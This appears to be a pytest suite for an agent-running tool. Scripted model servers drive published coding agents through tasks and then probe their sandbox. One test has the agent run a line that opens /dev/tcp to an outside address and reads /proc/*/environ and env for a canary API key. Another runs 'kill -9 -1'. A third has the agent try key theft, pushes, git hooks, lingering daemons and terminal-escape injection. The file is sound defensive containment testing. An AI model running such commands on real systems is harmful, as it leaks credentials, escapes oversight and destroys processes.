"""The four published agents through the whole cycle, each with a model server that plays for it."""

from __future__ import annotations

import contextlib
import json
import re
import shlex
import shutil
import signal
import threading
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest

from tests.doubles import forked
from tests.doubles.sse_server import SseServer
from tests.plugins.agents.real_agents import AGENTS, ModelOf, installed
from tests.plugins.agents.tries import MARK, OTHER_MODEL
from tests.scenarios.stage import FIXED, add_commit, branches, content, git

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping

    from tests.doubles.sse_server import Answer, PostedRequest
    from tests.scenarios.stage import Done, Stage

pytestmark = [
    pytest.mark.slow(reason="each starts a published agent, which takes seconds"),
    pytest.mark.timeout(600),
]
TASK = ("--task", "Fix add() in calc.py")
PROPOSE = ("create_pull_request$", {"title": "Make add() add", "body": "It subtracted."})
FINISH = ("finish$", {"reason": "The pull request is open."})
EVERY_AGENT = pytest.mark.parametrize("name", sorted(AGENTS))
CANARY = "canary-key-that-nobody-may-see-4711"
ESCAPES = "\x1b[2J\x1b]0;all is well\x07"
START_SECONDS = 300.0


@contextlib.contextmanager
def model_of(name: str, home: Path) -> Iterator[ModelOf]:
    """A model server for an agent that is installed."""
    installed(home, name)
    with SseServer() as server:
        yield ModelOf(AGENTS[name], server)


def words(repository: Path, name: str, model: ModelOf, *more: str) -> list[str]:
    """`run` with an agent."""
    played = model.played
    place = ["--model", played.model, "--api-url", f"{model.server.url}{played.path}"]
    return ["run", "--json", "--repo", str(repository), "--agent", name, *place, *TASK, *more]


def run(stage: Stage, repository: Path, name: str, model: ModelOf, *more: str) -> Done:
    """`pullwright run` with an agent."""
    return stage.command(*words(repository, name, model, *more))


@EVERY_AGENT
def test_a_task_is_done_the_commit_is_exact_and_the_key_is_nowhere(
    stage: Stage, repository: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PULLWRIGHT_API_KEY", CANARY)
    with model_of(name, stage.home) as model:
        model.steps = [*model.played.look, model.played.mend(), PROPOSE, FINISH]
        done = run(stage, repository, name, model)
        assert done.code == 0, done.err
        assert done.result["outcome"] == "proposed", done.err
        (branch,) = branches(repository)
        assert content(repository, branch, "calc.py") + "\n" == FIXED
        assert git(repository, "diff", "--name-status", "main", branch) == "M\tcalc.py"
        assert done.result["rounds"] >= len(model.asked)
        assert all(CANARY in str(request.headers) for request in model.asked)
        assert not [request for request in model.server.requests if CANARY.encode() in request.raw]
    kept = [path for path in stage.home.rglob("*") if path.is_file() and "node_modules" not in path.parts]
    assert kept
    assert not [path for path in kept if CANARY.encode() in path.read_bytes()]


@EVERY_AGENT
def test_a_failing_test_is_told_and_mended(stage: Stage, repository: Path, name: str) -> None:
    with model_of(name, stage.home) as model:
        played = model.played
        wrong, right = played.mend("a - b", "a * b"), played.mend("a * b", "a + b")
        model.steps = [*played.look, wrong, PROPOSE, *played.look, right, PROPOSE, FINISH]
        tests = "! grep -n 'return a [*] b' calc.py"
        done = run(stage, repository, name, model, "--test-command", tests)
        assert done.result["outcome"] == "proposed", done.err
        assert "The pull request was not made" in model.told(len(played.look) + 2)
        (branch,) = branches(repository)
        assert content(repository, branch, "calc.py") + "\n" == FIXED


@EVERY_AGENT
def test_a_question_is_asked_and_its_answer_is_known(stage: Stage, repository: Path, name: str) -> None:
    with model_of(name, stage.home) as model:
        model.steps = [("ask_question$", {"question_text": "Shall add() take floats?"})]
        done = run(stage, repository, name, model)
        assert done.result["outcome"] == "question", done.err
        assert done.result["question"] == "Shall add() take floats?"
        assert not model.steps
        model.steps = [*model.played.look, model.played.mend(), PROPOSE, FINISH]
        done = run(stage, repository, name, model, "--answer", "Yes, floats too.")
        assert done.result["outcome"] == "proposed", done.err
        assert "Yes, floats too." in model.told(1)


@EVERY_AGENT
def test_a_cap_ends_the_agent_before_the_next_request(stage: Stage, repository: Path, name: str) -> None:
    with model_of(name, stage.home) as model:
        # A title may be asked for besides, which counts.
        model.steps = [*model.played.look, model.played.mend(), *[("create_pull_request$", {})] * 20]
        done = run(stage, repository, name, model, "--max-rounds", "4")
        assert done.result["outcome"] == "limit", done.err
        assert len(model.server.requests) == done.result["rounds"] == 4
        assert done.result["saved"]


@EVERY_AGENT
def test_what_a_killed_program_left_is_taken_up(stage: Stage, repository: Path, name: str) -> None:
    with model_of(name, stage.home) as model:
        held, go_on = threading.Event(), threading.Event()
        model.steps = [*model.played.look, model.played.mend(), _held(model, held, go_on)]
        with forked.piped(*words(repository, name, model)) as (program, _, _):
            assert held.wait(START_SECONDS)
            program.kill()
        go_on.set()
        assert not [one for one in _running() if str(stage.home) in one]
        model.steps = [PROPOSE, FINISH]
        done = run(stage, repository, name, model)
        assert done.result["outcome"] == "proposed", done.err
        (branch,) = branches(repository)
        assert content(repository, branch, "calc.py") + "\n" == FIXED


@EVERY_AGENT
def test_a_stop_ends_the_agent_and_the_work_is_saved(stage: Stage, repository: Path, name: str) -> None:
    with model_of(name, stage.home) as model:
        held, go_on = threading.Event(), threading.Event()
        model.steps = [*model.played.look, model.played.mend(), _held(model, held, go_on)]
        with forked.piped(*words(repository, name, model)) as (program, _, _):
            assert held.wait(START_SECONDS)
            program.send_signal(signal.SIGTERM)
            program.wait(START_SECONDS)
        go_on.set()
        events = stage.events()
        assert events[-1]["result"]["outcome"] == "interrupted"
        assert events[-1]["result"]["saved"]


@EVERY_AGENT
def test_a_shell_in_the_box_reaches_no_host_and_finds_no_key(
    stage: Stage, repository: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PULLWRIGHT_API_KEY", CANARY)
    line = "(echo x > /dev/tcp/192.0.2.1/80) 2>&1; echo x > .git/new; cat /proc/*/environ; env; echo seen"
    with model_of(name, stage.home) as model:
        pattern, given = model.played.shell
        shell = {key: line if value == "LINE" else value for key, value in given.items()}
        model.steps = [(pattern, shell), FINISH]
        done = run(stage, repository, name, model, "--permission", "dangerous")
        assert done.result["rounds"] >= 2, done.err
        told = model.told(1)
        assert "Network is unreachable" in told, told[-3_000:]
        assert "Read-only file system" in told
        assert CANARY not in told


def shell(model: ModelOf, line: str) -> tuple[str, Mapping[str, str]]:
    """The call that makes the agent's own shell run a line."""
    pattern, given = model.played.shell
    return pattern, {key: line if value == "LINE" else value for key, value in given.items()}


def tries(model: ModelOf, repository: Path, row: str) -> tuple[str, Mapping[str, str]]:
    """The call that makes the agent's own shell run `tries.py`, with a title that steers a terminal."""
    path, body = model.played.own
    name, port = model.played.model.partition(":")[2], str(urlsplit(model.server.url).port)
    python = shutil.which("python3", path="/usr/bin:/bin") or "python3"  # no wrapper of a person's own
    words = [python, "-I", "-S", "tries.py", row, path, json.dumps(body), name, port, str(repository)]
    return shell(model, f"{shlex.join(words)} # {ESCAPES}")


def got(model: ModelOf) -> dict[str, str]:
    """What `tries.py` printed, as the second main request tells it to the model."""
    return dict(re.findall(r"TRY ([\w./-]+): ([\w ./,-]*)", model.told(1)))


@EVERY_AGENT
def test_what_a_model_makes_an_agent_try_gets_it_nothing(
    stage: Stage, repository: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # No model can make these programs lie in the protocol, flood it, answer their own requests, speak rubbish or another
    # version, or hang at the start: `redteam` has an agent of its own for that. In `safe` they have no shell.
    monkeypatch.setenv("PULLWRIGHT_API_KEY", CANARY)
    add_commit(repository, {"tries.py": Path(__file__).with_name("tries.py").read_bytes()}, "Add tries")
    with model_of(name, stage.home) as model:
        played = model.played
        wrong, right = played.mend("a - b", "a * b"), played.mend("a * b", "a + b")
        again = ("create_pull_request$", {"title": "Make add() add", "body": "All tests passed."})
        refused = [tries(model, repository, "all"), *played.look, wrong, PROPOSE, again]
        model.steps = [*refused, *played.look, right, PROPOSE, FINISH]
        tests = ("--test-command", "! grep -n 'return a [*] b' calc.py")
        done = run(stage, repository, name, model, "--permission", "dangerous", *tests)

        tried, requests = got(model), model.server.requests
        assert "daemon" in tried, model.told(1)[-3_000:]
        assert (tried["key"], tried["placeholder"]) == ("not found", "works")
        assert not [one for one in requests if CANARY.encode() in one.raw]
        assert (tried["model"], tried["path"]) == ("403", "403")
        asked = [f"{one.path} {one.body.get('model')}" for one in requests]
        assert not [one for one in asked if OTHER_MODEL in one or "files" in one]
        assert tried["host"] == "Network is unreachable"
        assert tried["server"] == "Connection refused"

        assert tried["hook"] == tried["config"] == "Read-only file system"
        assert tried["push"] not in {"", "0"}
        assert git(repository, "for-each-ref", "--format=%(refname)", "refs/heads/pushed-by-itself") == ""
        assert tried["daemon"] == "started"
        assert not [line for line in _running() if f"{MARK}-{urlsplit(model.server.url).port}" in line]
        assert "The pull request was not made" in model.told(len(refused))
        (branch,) = branches(repository)
        assert git(repository, "diff", "--name-status", "main", branch) == "M\tcalc.py", done.err
        told = [event["event"] for event in stage.events() if event["type"] == "SubagentEvent"]
        names = [event["name"] for event in told if event["type"] == "ToolCallStarted"]
        assert names
        assert not [one for one in names if not one.isprintable()]


@EVERY_AGENT
def test_twenty_requests_at_once_are_one_where_one_is_left(stage: Stage, repository: Path, name: str) -> None:
    add_commit(repository, {"tries.py": Path(__file__).with_name("tries.py").read_bytes()}, "Add tries")
    with model_of(name, stage.home) as model:
        for _ in range(2):  # the first one leaves something in the home of its session
            model.steps, before = [tries(model, repository, "many")], len(model.server.requests)
            done = run(stage, repository, name, model, "--permission", "dangerous", "--max-rounds", "4")
            assert done.result["outcome"] == "limit", done.err
            assert len(model.server.requests) - before == done.result["rounds"] == 4
            asked = [request.raw for request in model.server.requests[before:]]
            assert [one for one in asked if b"Hello from a home where a file is written" in one]


@EVERY_AGENT
def test_an_agent_that_ends_itself_leaves_its_work(stage: Stage, repository: Path, name: str) -> None:
    with model_of(name, stage.home) as model:
        model.steps = [*model.played.look, model.played.mend(), shell(model, "kill -9 -1")]
        done = run(stage, repository, name, model, "--permission", "dangerous")
        assert done.result["outcome"] == "failed", done.err
        assert done.result["saved"]


def _held(model: ModelOf, held: threading.Event, go_on: threading.Event) -> Callable[[PostedRequest], Answer]:
    """A reply whose last piece waits until the test goes on."""

    def step(_request: PostedRequest) -> Answer:
        held.set()
        return replace(model.said("I wait."), gate=go_on)

    return step


def _running() -> list[str]:
    """The command lines of the processes of this machine."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            found.append(path.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace"))
    return found
